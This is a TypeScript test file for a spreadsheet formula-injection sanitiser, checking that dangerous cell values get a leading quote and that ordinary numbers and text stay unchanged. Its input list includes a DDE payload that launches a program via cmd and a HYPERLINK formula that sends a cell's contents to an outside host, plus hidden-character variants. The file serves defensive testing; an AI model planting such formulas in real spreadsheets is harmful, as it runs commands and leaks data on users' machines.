import { expect, it } from 'vitest'
import { withoutFormula } from './without-formula.ts'

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elsewhere.example?"&A1,"Look")',
  '+1+1',
  '+44 20 7946 0000',
  '-1+1',
  '-A1',
  '-2*3',
  '--1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＠SUM(A1)',
  '-5 apples',
  '-5%+A1',
  '=1-5',
  ' =1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF\uFEFF=1',
  '\u000B=1',
  ' \t \u202E@SUM(A1)',
  '\0=1',
  ' -1+1',
]

it.each(FORMULAS)('%j is to be read as text', (cell) => {
  expect(withoutFormula(cell)).toBe(`'${cell}`)
})

it.each(['-696.60', '-1', '-£5', '-£1,000.50', '-5%', '0', '1=1', 'a+b', 'x@example.org', '', ' -5', '-', ' - ', "'=1", '2024-25', '−5'])(
  '%j stays as it is',
  (cell) => {
    expect(withoutFormula(cell)).toBe(cell)
  },
)
